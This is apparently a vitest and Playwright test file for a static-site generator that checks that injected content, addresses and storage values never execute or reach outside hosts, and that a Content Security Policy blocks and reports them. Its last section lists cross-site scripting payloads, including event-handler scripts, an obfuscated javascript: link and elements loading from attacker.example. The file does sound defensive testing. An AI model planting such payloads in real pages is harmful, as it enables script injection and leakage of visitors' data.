/** Nothing that comes from content or from an address runs, and nothing leaves the site: a sample of the list. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { allVectors } from '../attacks/all.ts'
import { browse } from '../attacks/browse.ts'
import { type AttackedSites, buildAttacked } from '../attacks/build.ts'
import { leaked, placesOf, reached } from '../attacks/reach.ts'
import { everyPage, fromOutside, kindVisits, ownPages, typed } from '../attacks/visits.ts'
import { browseSite } from '../attacks/visitor.ts'
import { openBrowser } from '../support/browser.ts'
import { builtSite } from '../support/built-site.ts'
import { serve } from '../support/server.ts'

/** One attack of so many is tried here, all of them in `attacks.slow.test.ts`. */
const every = 43
const seed = Number(process.env['PASSERELLE_SEED'] ?? 7)
// A title is needed by every page; images go through Astro in guides.
const always: readonly string[] = ['text-close-title', 'body-image-foreign', 'body-image-reference']
const sample = allVectors.filter(
  ({ id }, index) => always.includes(id) || index % every === seed % every,
)
const own = await builtSite('own')

let browser: Browser
let sites: AttackedSites
beforeAll(async () => {
  browser = await openBrowser()
  sites = await buildAttacked(sample)
})
afterAll(() => Promise.all([browser?.close(), sites?.remove()]))

test('the list has at least 250 attacks, each with a name of its own', () => {
  expect(allVectors.length).toBeGreaterThanOrEqual(250)
  expect(new Set(allVectors.map(({ id }) => id)).size).toBe(allVectors.length)
})

describe.each(['guides', 'docfx'] as const)('on a site of %s', (dialect) => {
  test('each attack reaches the site or is reported', async () => {
    expect((await reached(sample, sites[dialect], placesOf[dialect])).unseen).toEqual([])
    expect(await leaked(sites[dialect].folder)).toEqual([])
  })

  test(`no attack does anything without a policy (seed ${seed})`, async () => {
    const { folder } = sites[dialect]
    const visits = async (url: string) => [
      ...kindVisits(dialect, url),
      // The others are alike: one language, and not each old address.
      ...(await everyPage(folder, url)).filter((visit) =>
        /\/fr-fr\/.*\/(?:body|mdx|md|text|exchange)[^/]*\/$|\.svg$/.test(visit.url),
      ),
    ]
    expect(await browseSite(browser, folder, 'none', visits)).toEqual([])
  })

  test.each(['headers', 'meta'] as const)(
    'a page of each kind is there and asks nothing that the policy forbids: %s',
    async (hosting) => {
      const { folder } = sites[dialect]
      const visits = (url: string) => kindVisits(dialect, url)
      expect(await browseSite(browser, folder, hosting, visits)).toEqual([])
    },
  )
})

describe('an attack in an address or in browser storage', () => {
  test.each(['headers', 'none'] as const)(
    'changes nothing on any kind of page, with the policy of: %s',
    async (hosting) => {
      const results = await browseSite(browser, own, hosting, (url) =>
        // Each attack on one page; which one it is moves with the seed.
        ownPages.flatMap((path, position) =>
          fromOutside(
            allVectors.filter(
              (_, index) => index % ownPages.length === (position + seed) % ownPages.length,
            ),
            [url + path],
          ),
        ),
      )
      expect(results).toEqual([])
    },
  )

  test('is only text when it is typed into the search', async () => {
    const texts = sample.filter(({ into }) => into === 'text' || into === 'body')
    const visits = (url: string) => [typed(`${url}en/search/`, texts)]
    expect(await browseSite(browser, own, 'none', visits)).toEqual([])
  })
})

describe('a deliberate vulnerability', () => {
  const holes = [
    ['<script>__attack(1)</script>', /ran 1/],
    ['<img src=x onerror="__attack(2)">', /ran 2/],
    ['<svg onload="__attack(3)"></svg>', /ran 3/],
    ['<iframe srcdoc="<script>parent.__attack(4)</script>"></iframe>', /ran 4/],
    ['<details ontoggle="__attack(5)"><summary>a</summary></details>', /ran 5/],
    ['<p onmouseover="__attack(6)">a</p>', /ran 6/],
    ['<script>alert(7)</script>', /dialog 7/],
    ['<img src="https://attacker.example/a.png">', /request to https:\/\/attacker/],
    [
      '<p style="background:url(https://attacker.example/b.png)">a</p>',
      /request to https:\/\/attacker/,
    ],
    ['<script src="https://attacker.example/c.js"></script>', /request to https:\/\/attacker/],
    ['<a href="java\tscript:__attack(8)">a</a>', /leads to javascript:/],
    ['<template><img src=x onerror="__attack(9)"></template>', /has onerror/],
    ['<form action="https://attacker.example/"></form>', /loads from elsewhere/],
    ['<base href="https://attacker.example/">', /<base> is there/],
    ['<link rel="preconnect" href="https://attacker.example/">', /loads from elsewhere/],
    ['<meta http-equiv="refresh" content="9; url=https://attacker.example/">', /<meta> leads to/],
  ] as const

  test.each(holes)('is seen: %s', async (hole, expected) => {
    const change = (html: string) => html.replace('</main>', `${hole}</main>`)
    const site = await serve(own, { change })
    try {
      const results = await browse(browser, [{ url: `${site.url}en/` }], { bypassCSP: true })
      expect(results.join('\n')).toMatch(expected)
    } finally {
      await site.close()
    }
  })

  test('is blocked by the policy in the page, and reported', async () => {
    const script = '<script>__attack(1)</script><img src="https://attacker.example/a.png">'
    const site = await serve(own, { change: (html) => html.replace('</main>', `${script}</main>`) })
    try {
      const result = (await browse(browser, [{ url: `${site.url}en/` }])).join('\n')
      expect(result).toMatch(/forbidden: script-src-elem inline/)
      expect(result).toMatch(/forbidden: img-src https:\/\/attacker/)
      // Playwright tells of the request although the policy let none go out.
      expect(result).not.toMatch(/ran 1/)
    } finally {
      await site.close()
    }
  })
})
